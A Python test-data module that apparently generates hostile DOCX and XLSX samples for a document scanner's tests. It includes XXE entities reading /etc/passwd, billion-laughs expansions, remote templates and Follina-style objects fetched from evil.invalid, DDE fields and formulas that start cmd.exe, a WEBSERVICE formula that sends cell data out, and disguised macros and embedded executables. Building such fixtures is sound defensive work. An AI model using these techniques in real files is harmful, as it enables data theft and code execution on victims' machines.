"""DOCX and XLSX that read other files, fetch, link, embed, start something, or carry macros."""

from __future__ import annotations

import codecs

from tests.data.hostile import base
from tests.data.hostile.base import EXE, docx, docx_parts, relations, sheet, word, xlsx, xlsx_parts, zipped
from tests.data.hostile.entries import Family

_SYSTEM = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
_LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (97 + n, b"&%c;" % (96 + n) * 10) for n in range(1, 10)
) + b"]>"  # fmt: skip
_HEAD = b'<?xml version="1.0" encoding="UTF-8"?>'


def _behind_head(part: bytes, more: bytes) -> bytes:
    head, end, rest = part.partition(b"?>")
    return head + end + more + rest


xxe = Family("xxe")
for _name in ("[Content_Types].xml", "_rels/.rels", "word/document.xml"):
    xxe.add(f"{_name.rpartition('/')[2].strip('[]').replace('.', '-')}.docx", f"XXE in {_name}", "doctype", lambda name=_name: docx({name: _behind_head(docx_parts()[name], _SYSTEM)}))
for _name in ("word/styles.xml", "word/settings.xml", "docProps/core.xml", "customXml/item1.xml", "word/header1.xml", "word/_rels/document.xml.rels"):
    xxe.add(f"{_name.replace('/', '-')}.docx", f"XXE in {_name}", "doctype", lambda name=_name: docx({name: _HEAD + _SYSTEM + b"<x>&e;</x>"}))
for _name in ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/_rels/workbook.xml.rels"):
    xxe.add(f"{_name.replace('/', '-')}.xlsx", f"XXE in {_name}", "doctype", lambda name=_name: xlsx({name: _behind_head(xlsx_parts()[name], _SYSTEM)}))
xxe.add("strings.xlsx", "XXE in the shared strings", "doctype", lambda: xlsx({"xl/sharedStrings.xml": _HEAD + _SYSTEM + b"<sst>&e;</sst>"}))
xxe.add("utf16.docx", "XXE in UTF-16", "doctype", lambda: docx({"word/styles.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'.encode("utf-16")}))
xxe.add("utf16be.docx", "XXE in UTF-16 that doesn't say so", "doctype", lambda: docx({"word/styles.xml": codecs.BOM_UTF16_BE + _SYSTEM.decode().encode("utf-16-be")}))
xxe.add("utf32.docx", "XXE in UTF-32", "doctype", lambda: docx({"word/styles.xml": _SYSTEM.decode().encode("utf-32-be")}))
xxe.add("late.docx", "XXE behind 600 kB of blanks", "doctype", lambda: docx({"word/styles.xml": _HEAD + b" " * 600_000 + _SYSTEM + b"<x/>"}))
xxe.add("border.docx", "XXE across the border of two pieces that are read", "doctype", lambda: docx({"word/styles.xml": _HEAD + b" " * (256 * 1024 - len(_HEAD) - 4) + _SYSTEM + b"<x/>"}))
xxe.add("parameter.docx", "XXE by a parameter entity", "doctype", lambda: docx({"word/styles.xml": _HEAD + b'<!DOCTYPE x SYSTEM "http://evil.invalid/x.dtd"><x/>'}))
xxe.add("laughs.docx", "a billion laughs", "doctype", lambda: docx({"word/document.xml": _HEAD + _LAUGHS + b"<x>&j;</x>"}))
xxe.add("laughs.xlsx", "a billion laughs in a sheet", "doctype", lambda: xlsx({"xl/worksheets/sheet1.xml": _HEAD + _LAUGHS + b"<x>&j;</x>"}))
xxe.add("named.docx", "XXE in a part that isn't called XML", "doctype", lambda: docx({"word/styles.dat": _HEAD + _SYSTEM + b"<x>&e;</x>"}))
xxe.add("drawing.docx", "XXE in an SVG", "doctype", lambda: docx({"word/media/image1.svg": _HEAD + _SYSTEM + b"<svg>&e;</svg>"}))
xxe.add("utf7.docx", "XML in UTF-7", "container", lambda: docx({"word/styles.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-'}))
xxe.add("ebcdic.docx", "XML in EBCDIC", "container", lambda: docx({"word/styles.xml": _SYSTEM.decode().encode("cp500")}))

fetches = Family("fetches")


def _related(kind: str, target: str, mode: str = "External") -> bytes:
    return docx({"word/_rels/document.xml.rels": relations((kind, target, mode))})


def _settings(target: str) -> bytes:
    return docx({"word/settings.xml": _HEAD + b"<w:settings/>", "word/_rels/settings.xml.rels": relations(("attachedTemplate", target, "External"))})


fetches.add("template.docx", "a template from the network", "remote", lambda: _settings("https://evil.invalid/x.dotm"))
fetches.add("template-share.docx", "a template from a Windows share", "remote", lambda: _settings("\\\\evil.invalid\\x.dotm"))
fetches.add("template-file.docx", "the same as an address", "remote", lambda: _settings("file://evil.invalid/x.dotm"))
fetches.add("template-slashes.docx", "the same with five slashes", "remote", lambda: _settings("file://///evil.invalid/x.dotm"))
fetches.add("picture.docx", "a picture from the network, which tells that it was opened", "remote", lambda: _related("image", "http://evil.invalid/a.png"))
fetches.add("picture-share.docx", "a picture from a Windows share", "remote", lambda: _related("image", "file:////evil.invalid/a.png"))
fetches.add("object.docx", "an object from the network (as Follina)", "remote", lambda: _related("oleObject", "mhtml:http://evil.invalid!x-usc:http://evil.invalid"))
fetches.add("frame.docx", "a frame from the network", "remote", lambda: docx({"word/_rels/webSettings.xml.rels": relations(("frame", "http://evil.invalid", "External"))}))
fetches.add("subdocument.docx", "a part of the document from the network", "remote", lambda: _related("subDocument", "http://evil.invalid/x.docx"))
fetches.add("merge.docx", "addresses from a data base", "remote", lambda: docx({"word/_rels/settings.xml.rels": relations(("mailMergeSource", "file:///c:/x.csv", "External"))}))
fetches.add("picture.xlsx", "a picture from the network in a sheet", "remote", lambda: xlsx({"xl/drawings/_rels/drawing1.xml.rels": relations(("image", "http://evil.invalid/a.png", "External"))}))
for _number, _target in enumerate(("javascript:alert(1)", "file://evil.invalid/x", "\\\\evil.invalid\\x", "ms-msdt:/id", "vbscript:x", "search-ms:query=x", "calculator:", "file:///C:\\Windows\\System32\\calc.exe", "smb://evil.invalid/x")):
    fetches.add(f"link{_number}.docx", f"a link to {_target}", "remote", lambda target=_target: _related("hyperlink", target))
fetches.add("text.docx", "a field that takes in a text", "remote", lambda: docx({"word/document.xml": word('<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil.invalid/x&quot; "/></w:p>')}))
fetches.add("field-share.docx", "a field that takes in a picture of a share", "remote", lambda: docx({"word/document.xml": word('<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;\\\\\\\\evil.invalid\\\\a.png&quot; "/></w:p>')}))
fetches.add("dtd-namespace.docx", "a link whose mode is spelt EXTERNAL", "remote", lambda: _related("image", "http://evil.invalid/a.png", "EXTERNAL"))

linked = Family("linked")
_BOOK = '<?xml version="1.0"?><externalLink xmlns="x"><externalBook r:id="rId1"/></externalLink>'
linked.add("book.xlsx", "values from another workbook", "linked", lambda: xlsx({"xl/externalLinks/externalLink1.xml": _BOOK.encode(), "xl/externalLinks/_rels/externalLink1.xml.rels": relations(("externalLinkPath", "http://evil.invalid/x.xlsx", "External"))}))
linked.add("dde.xlsx", "a link by DDE", "linked", lambda: xlsx({"xl/externalLinks/externalLink1.xml": b'<?xml version="1.0"?><externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}))
linked.add("data.xlsx", "values from a data base", "linked", lambda: xlsx({"xl/connections.xml": b'<?xml version="1.0"?><connections><connection><webPr url="http://evil.invalid"/></connection></connections>'}))
linked.add("query.xlsx", "values from a page of the web", "linked", lambda: xlsx({"xl/queryTables/queryTable1.xml": b'<?xml version="1.0"?><queryTable/>'}))
linked.add("elsewhere.xlsx", "a link, its part called otherwise", "linked", lambda: xlsx({"xl/_rels/workbook.xml.rels": relations(("worksheet", "worksheets/sheet1.xml", ""), ("externalLink", "other/a.xml", "")), "xl/other/a.xml": _BOOK.encode()}))

command = Family("command")


def _field(*runs: str) -> bytes:
    """A field of several runs, between its beginning and its end."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    texts = "".join(f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>' for run in runs)
    return docx({"word/document.xml": word(f"<w:p>{mark.format('begin')}{texts}{mark.format('end')}</w:p>")})


_CALC = " c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "
command.add("dde.docx", "a field DDEAUTO", "command", lambda: docx({"word/document.xml": word(f'<w:p><w:fldSimple w:instr="DDEAUTO{_CALC}"/></w:p>')}))
command.add("dde-runs.docx", "its name cut into four runs", "command", lambda: _field(" D", "DE", "AU", "TO" + _CALC))
command.add("dde-plain.docx", "a field DDE", "command", lambda: _field("DDE" + _CALC))
command.add("dde-comment.docx", "its name cut by a comment", "command", lambda: _field("DDE<!-- x -->AUTO" + _CALC))
command.add("dde-cdata.docx", "its name as CDATA", "command", lambda: _field("<![CDATA[DDEAUTO c:\\cmd.exe]]>"))
command.add("dde-entity.docx", "its name as numbers", "command", lambda: _field("&#68;&#x44;EAUTO" + _CALC))
command.add("dde-header.docx", "in the header", "command", lambda: docx({"word/header1.xml": word(f'<w:p><w:fldSimple w:instr="DDEAUTO{_CALC}"/></w:p>')}))
command.add("dde-utf16.docx", "in UTF-16", "command", lambda: docx({"word/document.xml": word(f'<w:p><w:fldSimple w:instr="DDEAUTO{_CALC}"/></w:p>').decode().replace("UTF-8", "UTF-16").encode("utf-16")}))
_FORMULAS = {
    "dde": "cmd|' /C calc'!A0",
    "dde-entity": "cmd|&apos; /C calc&apos;!A0",
    "dde-quoted": "'cmd'|'/c calc'!A0",
    "dde-sum": "1+MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!A0",
    "webservice": "_xlfn.WEBSERVICE(&quot;http://evil.invalid/&quot;&amp;A1)",
    "rtd": "RTD(&quot;x&quot;,,&quot;y&quot;)",
    "call": "CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;calc&quot;,0)",
    "exec": "EXEC(&quot;calc&quot;)",
    "cdata": "<![CDATA[cmd|' /C calc'!A0]]>",
}
for _name, _formula in _FORMULAS.items():
    command.add(f"{_name}.xlsx", f"a formula {_formula}", "command", lambda formula=_formula: xlsx({"xl/worksheets/sheet1.xml": sheet(f'<c r="A1"><f>{formula}</f></c>')}))
command.add("name.xlsx", "a name that stands for a command", "command", lambda: xlsx({"xl/workbook.xml": xlsx_parts()["xl/workbook.xml"].replace(b"</workbook>", b"<definedNames><definedName name=\"a\">cmd|'/c calc'!A0</definedName></definedNames></workbook>")}))

macros = Family("macros")
_MACRO_XLSX = b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"
_MACRO_DOCX = b"application/vnd.ms-word.document.macroEnabled.main+xml"


def _retyped(parts: dict[str, bytes], old: str, new: bytes) -> dict[str, bytes]:
    types = parts["[Content_Types].xml"]
    return {**parts, "[Content_Types].xml": types.replace(old.encode(), new)}


def _typed(more: bytes) -> dict[str, bytes]:
    types = xlsx_parts()["[Content_Types].xml"]
    return {"[Content_Types].xml": types.replace(b"</Types>", more + b"</Types>")}


macros.add("renamed.xlsx", "an XLSM renamed", "macros", lambda: zipped({**_retyped(xlsx_parts(), base.XLSX_TYPE, _MACRO_XLSX), "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macros"}))
macros.add("typed.xlsx", "an XLSM renamed, its macros gone", "macros", lambda: zipped(_retyped(xlsx_parts(), base.XLSX_TYPE, _MACRO_XLSX)))
macros.add("renamed.docx", "a DOCM renamed", "macros", lambda: zipped({**_retyped(docx_parts(), base.DOCX_TYPE, _MACRO_DOCX), "word/vbaProject.bin": b"\xd0\xcf\x11\xe0macros"}))
macros.add("added.docx", "macros in a DOCX that doesn't say so", "macros", lambda: docx({"word/vbaProject.bin": b"macros"}))
macros.add("capital.docx", "macros, their part in capitals", "macros", lambda: docx({"WORD/VBAPROJECT.BIN": b"macros"}))
macros.add("hidden.xlsx", "macros in a part of another name", "macros", lambda: xlsx({"xl/_rels/workbook.xml.rels": relations(("worksheet", "worksheets/sheet1.xml", ""), ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "data.bin", "")), "xl/data.bin": b"macros"}))
macros.add("typed-part.xlsx", "macros by the type of their part", "macros", lambda: xlsx({**_typed(b'<Override PartName="/xl/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>'), "xl/a.bin": b"macros"}))
macros.add("excel4.xlsx", "macros of Excel 4", "macros", lambda: xlsx({"xl/macrosheets/sheet1.xml": b'<?xml version="1.0"?><xm:macrosheet xmlns:xm="x"/>'}))
macros.add("excel4-hidden.xlsx", "macros of Excel 4 in a part of another name", "macros", lambda: xlsx({"xl/_rels/workbook.xml.rels": relations(("worksheet", "worksheets/sheet1.xml", ""), ("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "worksheets/s2.xml", ""))}))

within = Family("within")
within.add("object.docx", "an object (OLE)", "embedded", lambda: docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + EXE}))
within.add("package.docx", "a program as a package", "embedded", lambda: docx({"word/embeddings/a.exe": EXE}))
within.add("zip.docx", "a ZIP of ZIPs, as 42.zip", "embedded", lambda: docx({"word/embeddings/a.zip": base.nest(4)}))
within.add("pdf.docx", "a PDF", "embedded", lambda: docx({"word/embeddings/a.pdf": base.pdf()}))
within.add("docx.docx", "a DOCX", "embedded", lambda: docx({"word/embeddings/a.docx": docx()}))
within.add("false-chart.docx", "a DOCX that says it is a chart's sheet", "embedded", lambda: docx({"word/embeddings/a.xlsx": docx()}))
within.add("two-deep.docx", "a sheet in a sheet in a document", "embedded", lambda: docx({"word/embeddings/a.xlsx": xlsx({"xl/embeddings/b.xlsx": xlsx()})}))
within.add("chart-macros.docx", "a chart's sheet with macros", "macros", lambda: docx({"word/embeddings/a.xlsx": xlsx({"xl/vbaProject.bin": b"macros"})}))
within.add("chart-links.docx", "a chart's sheet with links", "linked", lambda: docx({"word/embeddings/a.xlsx": xlsx({"xl/connections.xml": _HEAD + b"<connections/>"})}))
within.add("web.docx", "a page taken in as it is (altChunk)", "embedded", lambda: docx({"word/afchunk.mht": b"MIME-Version: 1.0", "word/_rels/document.xml.rels": relations(("aFChunk", "afchunk.mht", ""))}))
within.add("web-named.docx", "the same under another name", "embedded", lambda: docx({"word/a.htm": b"<html>x</html>", "word/_rels/document.xml.rels": relations(("aFChunk", "a.htm", ""))}))
within.add("object.xlsx", "an object in a sheet", "embedded", lambda: xlsx({"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}))
within.add("control.docx", "an ActiveX control", "control", lambda: docx({"word/activeX/activeX1.xml": _HEAD + b"<ax:ocx/>"}))
within.add("control.xlsx", "an ActiveX control in a sheet", "control", lambda: xlsx({"xl/activeX/activeX1.bin": b"x"}))
within.add("addin.docx", "an add-in that loads a page", "control", lambda: docx({"word/webextensions/webextension1.xml": _HEAD + b"<we:webextension/>"}))
within.add("addin-named.xlsx", "the same under another name", "control", lambda: xlsx({"_rels/.rels": relations(("officeDocument", "xl/workbook.xml", ""), ("http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "a.xml", ""))}))
